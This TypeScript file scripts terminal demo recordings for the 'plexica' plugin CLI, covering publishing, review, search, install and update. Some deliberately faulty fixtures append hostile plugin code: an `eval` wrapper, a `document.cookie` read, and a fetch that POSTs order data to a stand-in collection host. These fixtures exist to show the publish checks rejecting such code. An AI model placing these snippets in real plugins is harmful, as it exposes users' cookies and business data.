import { appendFile, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Pane } from './open-pane.ts'
import type { PersonName, SessionWorld } from './session-world.ts'

/** One recording. */
export interface Session {
  /** Of the file below `docs/sessions`, without its ending. */
  readonly name: string
  /** What is to be seen in it. */
  readonly title: string
  readonly person: PersonName
  /** Makes what has to be there before. Gives the folder in which the shell starts. */
  readonly prepare: (world: SessionWorld) => Promise<string>
  readonly play: (stage: Stage) => Promise<void>
}

/** What somebody does at a terminal. */
export interface Stage extends Pane {
  /** Types a command line and waits for the next prompt. */
  command(line: string): Promise<void>
  /** Types a command line that asks something. */
  start(line: string): Promise<void>
  /** Waits until a text is the last one on the screen, then presses these keys; one in quotes is typed. */
  answer(question: RegExp, ...keys: string[]): Promise<void>
}

async function changeJson(file: string, changes: object): Promise<void> {
  await writeFile(file, `${JSON.stringify({ ...JSON.parse(await readFile(file, 'utf8')), ...changes }, null, 2)}\n`)
}

/** Makes a plugin off stage. */
async function makePlugin(world: SessionWorld, id: string, changes: object = {}, template = 'frontend') {
  const place = await world.place()
  await world.plexica('ann', ['init', '--id', id, '--template', template, '--author', 'Ann'], place)
  const plugin = join(place, id)
  await changeJson(join(plugin, 'manifest.json'), changes)
  return plugin
}

/** A publish that ends before anything is sent. */
function mistake(name: string, title: string, mistaken: (world: SessionWorld) => Promise<string>): Session {
  return {
    name: `mistake-${name}`,
    title,
    person: 'ann',
    prepare: mistaken,
    play: async ({ command }) => {
      await command('plexica publish')
      await command('echo $?')
    },
  }
}

export const sessions: readonly Session[] = [
  {
    name: 'publish',
    title: 'From nothing to the queue: `init`, a look without the registry, `publish` with its questions',
    person: 'ann',
    prepare: (world) => world.place(),
    play: async ({ start, answer, command, prompt }) => {
      await start('plexica init')
      await answer(/Id of the plugin/, "'order-board'", 'Enter')
      await answer(/a block for the page editor/, 'Enter')
      await answer(/Name that people read/, 'Enter')
      await prompt()
      await command('cd order-board')
      await command('plexica publish --dry-run --offline')
      await start('plexica publish')
      await answer(/another one/, 'Enter')
      await answer(/Submit order-board/, 'Enter')
      await prompt()
      await command('plexica status')
    },
  },
  {
    name: 'publish-update',
    title: 'A second release: what differs from the first, the next version and what is new in it',
    person: 'ann',
    prepare: async (world) => {
      const plugin = await makePlugin(world, 'stock-alert')
      await world.release('ann', plugin)
      await changeJson(join(plugin, 'manifest.json'), {
        requiredPermissions: ['products:read'],
        network: ['api.example.com'],
      })
      await appendFile(join(plugin, 'README.md'), '\nIt says which products run out.\n')
      return plugin
    },
    play: async ({ start, answer, prompt }) => {
      await start('plexica publish --tag beta')
      await answer(/another one/, 'Down', 'Enter')
      await answer(/What is new in/, "'It says which products run out.'", 'Enter')
      await answer(/Submit stock-alert/, 'Enter')
      await prompt()
    },
  },
  mistake('manifest', 'A manifest with mistakes: all at once, each with its line', async (world) =>
    makePlugin(world, 'broken-board', {
      version: '1.0',
      category: 'dashboards',
      colour: 'green',
      icon: 'assets/logo.svg',
    }),
  ),
  mistake('hostile-code', 'Code that no plugin may have', async (world) => {
    const plugin = await makePlugin(world, 'clever-board')
    await appendFile(
      join(plugin, 'src/index.tsx'),
      '\nexport const run = (text: string) => eval(text)\nexport const who = () => document.cookie\n',
    )
    return plugin
  }),
  mistake(
    'undeclared',
    'A permission and a host that the code uses and the manifest does not declare',
    async (world) => {
      const plugin = await makePlugin(world, 'hidden-board')
      await appendFile(
        join(plugin, 'src/index.tsx'),
        `
interface Platform {
  request(permission: string, input?: unknown): Promise<unknown>
}

export const send = async ({ plexica }: { plexica: Platform }) =>
  fetch('https://collect.example.net/orders', {
    method: 'POST',
    body: JSON.stringify(await plexica.request('orders:read')),
  })
`,
      )
      return plugin
    },
  ),
  mistake('missing-entry', 'A manifest that names a file that is not there', async (world) =>
    makePlugin(world, 'empty-board', { frontend: { entry: 'src/main.tsx' } }),
  ),
  mistake('broken-build', 'Code that cannot be built', async (world) => {
    const plugin = await makePlugin(world, 'torn-board')
    await appendFile(
      join(plugin, 'src/index.tsx'),
      "\nimport { chart } from './chart.ts'\n\nexport const total = (orders: number[] => orders.length\n",
    )
    return plugin
  }),
  {
    name: 'review',
    title: 'A super-admin goes through a queue of three with single keys',
    person: 'root',
    prepare: async (world) => {
      await world.clearQueue()
      const plain = await makePlugin(world, 'price-tag')
      const grown = await makePlugin(world, 'return-desk')
      await world.release('ann', grown)
      await world.plexica('ann', ['publish', '--skip-tests'], plain)
      await changeJson(join(grown, 'manifest.json'), {
        version: '0.2.0',
        requiredPermissions: ['customers:read'],
        network: ['api.example.com'],
      })
      await appendFile(join(grown, 'README.md'), '\nIt knows who sends something back.\n')
      const options = ['--skip-tests', '--changelog', 'It knows who sends something back.']
      await world.plexica('ann', ['publish', ...options], grown)
      const third = await makePlugin(world, 'stamp-card', {}, 'widget')
      await world.plexica('ben', ['publish', '--skip-tests'], third)
      return world.place()
    },
    play: async ({ command, start, answer, prompt }) => {
      await command('plexica review list')
      await start('plexica review walk')
      await answer(/1 of 3[\s\S]*q quit$/, 'a')
      await answer(/2 of 3[\s\S]*q quit$/, 'd')
      await answer(/2 of 3[\s\S]*q quit[\s\S]*q quit$/, 'r')
      await answer(/What has the author to change/, "'Say in the README which customer data is read.'", 'Enter')
      await answer(/3 of 3[\s\S]*q quit$/, 'f')
      await answer(/3 of 3[\s\S]*q quit[\s\S]*q quit$/, 'n')
      await prompt()
    },
  },
  {
    name: 'search',
    title: 'A tenant’s admin looks for a plugin and reads what it may do',
    person: 'ada',
    prepare: async (world) => {
      await world.clearQueue()
      for (const name of ['sales-chart', 'shipping-quotes', 'testimonial-block'])
        await world.release('ann', world.example(name))
      return world.place()
    },
    play: async ({ command }) => {
      await command('plexica search')
      await command('plexica search delivry')
      await command('plexica search nothing-like-it')
      await command('plexica info shipping-quotes')
    },
  },
  {
    name: 'install',
    title: 'The wizard of an installation, with a secret',
    person: 'ada',
    prepare: (world) => world.place(),
    play: async ({ start, answer, prompt, command }) => {
      await start('plexica install shipping-quotes')
      await answer(/API key of the carrier/, "'not-a-real-key'", 'Enter')
      await answer(/Customer number[^\n]*$/, 'Enter')
      await answer(/You ship from[^\n]*$/, 'Enter')
      await answer(/Postal code[^\n]*$/, "'20095'", 'Enter')
      await answer(/You deliver to/, 'Enter')
      await answer(/Currency/, 'Enter')
      await answer(/first kilogram/, 'Enter')
      await answer(/each further kilogram/, 'Enter')
      await answer(/More for express/, 'Enter')
      await answer(/Fee for packing/, 'Enter')
      await answer(/Free standard delivery/, "'60'", 'Enter')
      await answer(/Grant shipping:quote/, "'y'", 'Enter')
      await answer(/Install Shipping Quotes for acme/, 'Enter')
      await prompt()
      await command('plexica list')
    },
  },
  {
    name: 'update',
    title: 'An update that asks for a new permission and a new host',
    person: 'ada',
    prepare: async (world) => {
      const plugin = await makePlugin(world, 'visit-count')
      await world.release('ann', plugin)
      await world.plexica('ada', ['install', 'visit-count'])
      await changeJson(join(plugin, 'manifest.json'), {
        version: '0.2.0',
        requiredPermissions: ['orders:read'],
        network: ['api.example.com'],
      })
      await world.release('ann', plugin, '--changelog', '- It sets visits against orders.')
      return world.place()
    },
    play: async ({ command, start, answer, prompt }) => {
      await command('plexica outdated')
      await start('plexica update visit-count')
      await answer(/Grant orders:read[^\n]*$/, "'y'", 'Enter')
      await answer(/contact api\.example\.com[^\n]*$/, "'y'", 'Enter')
      await prompt()
    },
  },
  {
    name: 'doctor',
    title: '`doctor` where the manifest and the key are wrong',
    person: 'ann',
    prepare: (world) => makePlugin(world, 'sick-board', { version: '1.0' }),
    play: async ({ command }) => {
      await command('PLEXICA_API_KEY=plx_wrong plexica doctor')
      await command('echo $?')
    },
  },
]
